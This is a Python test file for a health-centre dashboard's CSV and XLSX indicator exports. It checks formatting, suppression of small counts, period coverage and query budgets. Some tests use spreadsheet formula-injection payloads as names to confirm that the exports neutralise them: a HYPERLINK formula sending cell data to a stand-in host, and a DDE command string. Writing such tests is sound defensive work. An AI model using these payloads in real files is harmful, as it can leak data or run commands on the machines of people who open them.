"""The dashboard's CSV and XLSX exports: files a Danish spreadsheet opens as they are, the chosen
unit and period with every month of it, every cell through the display function, no formulas."""

import csv
import datetime
import io

import pytest
from django.conf import settings
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from healthcenter.models import AccessLog
from reporting.models import Indicator, IndicatorValue, UnitKind
from reporting.rollups import percent, run_rollups

from .conftest import client_for
from .factories import TeamFactory, UserFactory
from .test_dashboard import diabetic_citizens, tables_in
from .test_rollups import MONTH

THIS_MONTH = timezone.localdate().replace(day=1)
BOM = b"\xef\xbb\xbf"


def months_before(month: datetime.date, count: int) -> datetime.date:
    index = month.year * 12 + month.month - 1 - count
    return datetime.date(index // 12, index % 12 + 1, 1)


def stored(code, month, numerator, denominator, *, team=None, value=None) -> IndicatorValue:
    """A rollup row as the reporting job leaves it (the exports read nothing else)."""
    return IndicatorValue.objects.create(
        indicator=Indicator.objects.get(code=code),
        month=month,
        unit_kind=UnitKind.TEAM if team else UnitKind.CENTRE,
        unit_id=team.id if team else 0,
        numerator=numerator,
        denominator=denominator,
        value=percent(numerator, denominator) if value is None else value,
        computed_at=timezone.now(),
    )


def csv_rows(response, delimiter=";") -> list[list[str]]:
    assert response.content.startswith(BOM)
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def by_code_and_month(rows) -> dict[tuple[str, str], list[str]]:
    return {(row[0], row[3]): row for row in rows[1:]}


def workbook(response):
    return load_workbook(io.BytesIO(response.content))


def table_rows(sheet) -> list[tuple]:
    """The data rows below the title block and the header."""
    header_row = next(r for r in range(1, 12) if sheet.cell(r, 1).value in ("Code", "Kode"))
    return list(sheet.iter_rows(min_row=header_row + 1))


def export(manager, fmt, *, english=False, **query):
    client = client_for(manager)
    if english:
        client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return client.get(reverse("reporting:export", args=[fmt]), query)


@pytest.mark.django_db
class TestCsv:
    def test_danish_csv_has_a_bom_semicolons_and_decimal_commas(self, manager):
        stored("DM-HBA1C-MEASURED", MONTH, 551, 1000)  # 55.1 %
        response = export(manager, "csv")
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert b"\r\n" in response.content
        rows = csv_rows(response, delimiter=";")
        assert [rows[0][i] for i in (0, 1, 3, 4, 5, 6)] == ["Kode", "Indikator", "Måned", "Tæller", "Nævner", "Værdi"]
        row = by_code_and_month(rows)[("DM-HBA1C-MEASURED", f"{MONTH:%Y-%m}")]
        assert row[4:8] == ["551", "1000", "55,1", "%"]

    def test_english_csv_has_commas_between_fields_and_decimal_points(self, manager):
        stored("DM-HBA1C-MEASURED", MONTH, 551, 1000)
        response = export(manager, "csv", english=True)
        rows = csv_rows(response, delimiter=",")
        assert rows[0][:4] == ["Code", "Indicator", "Unit", "Month"]
        row = by_code_and_month(rows)[("DM-HBA1C-MEASURED", f"{MONTH:%Y-%m}")]
        assert row[4:10] == ["551", "1000", "55.1", "%", "≥ 95 %", "no"]

    def test_a_name_with_the_separator_and_quotes_is_quoted(self, manager):
        team = TeamFactory(name='Nord; "gamle" team')
        stored("DM-HBA1C-MEASURED", MONTH, 10, 20, team=team)
        response = export(manager, "csv", unit=f"team:{team.public_id}")
        assert b'"Nord; ""gamle"" team"' in response.content
        rows = csv_rows(response)
        assert {row[2] for row in rows[1:]} == {'Nord; "gamle" team'}

    def test_small_cells_and_bounds_leave_as_the_display_function_shows_them(self, manager):
        stored("DM-HBA1C-MEASURED", MONTH, 2, 4)
        stored("DM-BP-MEASURED", MONTH, 2, 22)
        response = export(manager, "csv")
        rows = by_code_and_month(csv_rows(response))
        assert rows[("DM-HBA1C-MEASURED", f"{MONTH:%Y-%m}")][4:7] == ["<5", "<5", "<5"]
        assert rows[("DM-BP-MEASURED", f"{MONTH:%Y-%m}")][4:7] == ["", "22", "≤ 19 %"]

    def test_a_team_export_applies_secondary_suppression(self, manager, team, other_team):
        third = TeamFactory(name="Demens Øst")
        stored("DM-HBA1C-MEASURED", MONTH, 2, 3, team=team)  # <5
        stored("DM-HBA1C-MEASURED", MONTH, 10, 20, team=other_team)  # the next smallest: hidden too
        stored("DM-HBA1C-MEASURED", MONTH, 30, 40, team=third)
        stored("DM-HBA1C-MEASURED", MONTH, 42, 63)
        response = export(manager, "csv", english=True, unit=f"team:{other_team.public_id}")
        row = by_code_and_month(csv_rows(response, delimiter=","))[("DM-HBA1C-MEASURED", f"{MONTH:%Y-%m}")]
        assert row[4:7] == ["", "", "not shown"]
        assert "10" not in row and "50" not in row

    def test_formulas_in_names_are_neutralised(self, manager):
        team = TeamFactory(name='=HYPERLINK("http://evil.example/?"&A1;"Klik")')
        stored("DM-HBA1C-MEASURED", MONTH, 10, 20, team=team)
        rows = csv_rows(export(manager, "csv", unit=f"team:{team.public_id}"))
        assert {row[2] for row in rows[1:]} == {"'" + team.name}
        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


@pytest.mark.django_db
class TestPeriod:
    def test_both_exports_carry_every_month_of_the_chosen_unit_and_period(self, manager, team, other_team):
        recent, old = months_before(MONTH, 9), months_before(MONTH, 13)
        stored("DM-HBA1C-MEASURED", recent, 10, 20, team=team)
        stored("DM-HBA1C-MEASURED", old, 12, 20, team=team)
        stored("DM-HBA1C-MEASURED", recent, 17, 20, team=other_team)
        chosen = [months_before(MONTH, n) for n in reversed(range(12))]
        query = {"unit": f"team:{team.public_id}", "first": f"{chosen[0]:%Y-%m}", "last": f"{MONTH:%Y-%m}"}

        rows = csv_rows(export(manager, "csv", **query))[1:]
        indicators = Indicator.objects.count()
        assert len(rows) == indicators * 12  # long: one row per indicator and month
        measured = [row for row in rows if row[0] == "DM-HBA1C-MEASURED"]
        assert [row[3] for row in measured] == [f"{m:%Y-%m}" for m in chosen]
        assert {row[2] for row in rows} == {"Diabetes Nord"}
        assert by_code_and_month([[], *rows])[("DM-HBA1C-MEASURED", f"{recent:%Y-%m}")][4:7] == ["10", "20", "50"]

        sheet = workbook(export(manager, "xlsx", **query)).worksheets[0]
        data = table_rows(sheet)
        assert len(data) == indicators * 12
        measured = [r for r in data if r[0].value == "DM-HBA1C-MEASURED"]
        assert [r[3].value.date() for r in measured] == chosen
        assert [r[6].value for r in measured if r[3].value.date() == recent] == [0.5]

    def test_without_a_choice_they_carry_the_dashboards_default_period(self, manager):
        rows = csv_rows(export(manager, "csv"))[1:]
        months = [row[3] for row in rows if row[0] == "DM-HBA1C-MEASURED"]
        assert months == [f"{months_before(MONTH, n):%Y-%m}" for n in reversed(range(24))]


@pytest.mark.django_db
class TestXlsx:
    def test_values_are_numbers_months_are_dates_and_hidden_cells_are_their_text(self, manager):
        stored("DM-HBA1C-MEASURED", MONTH, 551, 1000)
        stored("DM-BP-MEASURED", MONTH, 2, 4)
        stored("DM-EYE-SCREENED", MONTH, 2, 22)
        stored("OPS-WAIT-DAYS", MONTH, 9, 9, value=12.5)
        stored("STORIES-APPROVED", MONTH, 3, 3, value=3)
        sheet = workbook(export(manager, "xlsx")).worksheets[0]
        rows = {(r[0].value, r[3].value.date()): r for r in table_rows(sheet)}

        measured = rows[("DM-HBA1C-MEASURED", MONTH)]
        assert (measured[4].value, measured[5].value) == (551, 1000)
        assert measured[6].value == pytest.approx(0.551)
        assert measured[6].number_format == "0.0%"
        assert measured[3].is_date and measured[3].number_format == "mmm yyyy"
        assert [c.value for c in rows[("DM-BP-MEASURED", MONTH)][4:7]] == ["<5", "<5", "<5"]
        assert [c.value for c in rows[("DM-EYE-SCREENED", MONTH)][4:7]] == [None, 22, "≤ 19 %"]
        wait = rows[("OPS-WAIT-DAYS", MONTH)][6]
        assert (wait.value, wait.number_format) == (12.5, "0.0")
        stories = rows[("STORIES-APPROVED", MONTH)][6]
        assert (stories.value, stories.data_type) == (3, "n")

    def test_it_has_a_title_the_unit_the_period_and_column_widths(self, manager, team):
        stored("DM-HBA1C-MEASURED", MONTH, 10, 20, team=team)
        first = months_before(MONTH, 11)
        query = {"unit": f"team:{team.public_id}", "first": f"{first:%Y-%m}", "last": f"{MONTH:%Y-%m}"}
        book = workbook(export(manager, "xlsx", english=True, **query))
        sheet = book.worksheets[0]
        assert sheet["A1"].value == "Quality indicators: Diabetes Nord"
        assert sheet["A1"].font.bold
        assert sheet["A2"].value == "Unit: Diabetes Nord"
        assert sheet["A3"].value == f"Period: {first:%B %Y} – {MONTH:%B %Y}"
        assert "<5" in sheet["A5"].value
        assert sheet.freeze_panes is not None
        assert sheet.column_dimensions["B"].width > 20

    def test_a_second_sheet_defines_every_indicator(self, manager):
        book = workbook(export(manager, "xlsx", english=True))
        assert book.sheetnames[1] == "Definitions"
        rows = list(book["Definitions"].iter_rows(values_only=True))
        assert rows[0] == ("Code", "Indicator", "Definition", "Target", "Source")
        definitions = {row[0]: row for row in rows[1:]}
        assert set(definitions) == set(Indicator.objects.values_list("code", flat=True))
        lt59 = definitions["DM-HBA1C-LT59"]
        assert "below 59 mmol/mol" in lt59[2] and lt59[3] == "> 40 %" and lt59[4] == "Dansk Diabetes Database 1.f1"

    def test_formulas_in_names_are_text_cells(self, manager):
        team = TeamFactory(name='=HYPERLINK("http://evil.example/";"Klik")')
        stored("DM-HBA1C-MEASURED", MONTH, 10, 20, team=team)
        sheet = workbook(export(manager, "xlsx", unit=f"team:{team.public_id}")).worksheets[0]
        cells = [r[2] for r in table_rows(sheet)]
        assert {c.value for c in cells} == {team.name}
        assert {c.data_type for c in cells} == {"s"}
        assert all(c.quotePrefix for c in cells)
        formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        assert formulas == []


@pytest.mark.django_db
class TestThroughTheRollups:
    def test_computed_figures_reach_both_files(self, manager, team):
        diabetic_citizens(team, 12, measured=7)
        run_rollups(MONTH, MONTH)
        rows = by_code_and_month(csv_rows(export(manager, "csv", unit=f"team:{team.public_id}")))
        assert rows[("DM-HBA1C-MEASURED", f"{MONTH:%Y-%m}")][4:7] == ["7", "12", "58,33"]
        sheet = workbook(export(manager, "xlsx", unit=f"team:{team.public_id}")).worksheets[0]
        cell = next(r[6] for r in table_rows(sheet) if r[0].value == "DM-HBA1C-MEASURED" and r[4].value == 7)
        assert cell.value == pytest.approx(0.5833)

    def test_professionals_get_no_export(self, as_member):
        assert as_member.get(reverse("reporting:export", args=["xlsx"])).status_code == 404


@pytest.mark.django_db
def test_the_exports_do_not_grow_with_the_data(manager, team, other_team, django_assert_max_num_queries):
    client = client_for(manager)
    stored("DM-HBA1C-MEASURED", MONTH, 10, 20, team=team)
    query = {"unit": f"team:{team.public_id}"}
    budgets = {}
    for fmt in ("csv", "xlsx"):
        with django_assert_max_num_queries(8) as small:
            assert client.get(reverse("reporting:export", args=[fmt]), query).status_code == 200
        budgets[fmt] = len(small)
    IndicatorValue.objects.all().delete()
    units = [(UnitKind.TEAM, t.id) for t in [team, other_team, *(TeamFactory() for _n in range(6))]]
    IndicatorValue.objects.bulk_create(
        IndicatorValue(
            indicator=indicator,
            month=months_before(THIS_MONTH, months_back),
            unit_kind=unit_kind,
            unit_id=unit_id,
            numerator=7,
            denominator=30,
            value=percent(7, 30),
            computed_at=timezone.now(),
        )
        for indicator in Indicator.objects.all()
        for months_back in range(24)
        for unit_kind, unit_id in [*units, (UnitKind.CENTRE, 0)]
    )
    for fmt in ("csv", "xlsx"):
        with django_assert_max_num_queries(budgets[fmt]):
            assert client.get(reverse("reporting:export", args=[fmt]), query).status_code == 200


@pytest.mark.django_db
def test_a_changed_rollup_row_changes_the_next_file(manager, team):
    # Files are kept per process (reporting.exports.export_file): a row changed by the next rollup
    # run must change the file.
    row = stored("DM-HBA1C-MEASURED", MONTH, 10, 20, team=team)
    query = {"unit": f"team:{team.public_id}"}
    client = client_for(manager)

    def measured():
        response = client.get(reverse("reporting:export", args=["csv"]), query)
        return by_code_and_month(csv_rows(response))[("DM-HBA1C-MEASURED", f"{MONTH:%Y-%m}")][4:6]

    assert measured() == ["10", "20"]
    IndicatorValue.objects.filter(pk=row.pk).update(numerator=11, value=percent(11, 20))
    assert measured() == ["11", "20"]


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_exports_read_rollups_and_no_clinical_table(manager, team, fmt):
    diabetic_citizens(team, 2, measured=1)
    stored("DM-HBA1C-MEASURED", MONTH, 10, 20, team=team)
    with CaptureQueriesContext(connection) as captured:
        response = client_for(manager).get(reverse("reporting:export", args=[fmt]), {"unit": f"team:{team.public_id}"})
    assert response.status_code == 200
    tables = tables_in(captured.captured_queries)
    assert "reporting_indicatorvalue" in tables
    assert {t for t in tables if t.startswith(("patients_", "coordination_"))} <= {"patients_programme"}


@pytest.mark.django_db
class TestAccessLogExport:
    def test_a_staff_name_that_looks_like_a_formula_is_neutralised(self, administrator, patient):
        staff = UserFactory(username="=cmd", first_name="=cmd|' /C calc'!A0", last_name="", teams=[patient.team])
        client_for(staff).get(reverse("patients:detail", args=[patient.public_id]))
        assert AccessLog.objects.filter(user=staff).exists()
        response = client_for(administrator).post(reverse("patients:access_log_export"), {"cpr": patient.cpr_formatted})
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
        by_staff = [row for row in rows[1:] if "cmd" in row[1]]
        assert by_staff and all(row[1] == "'=cmd" for row in by_staff)
        assert all(row[2].startswith("'=cmd") for row in by_staff)
        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
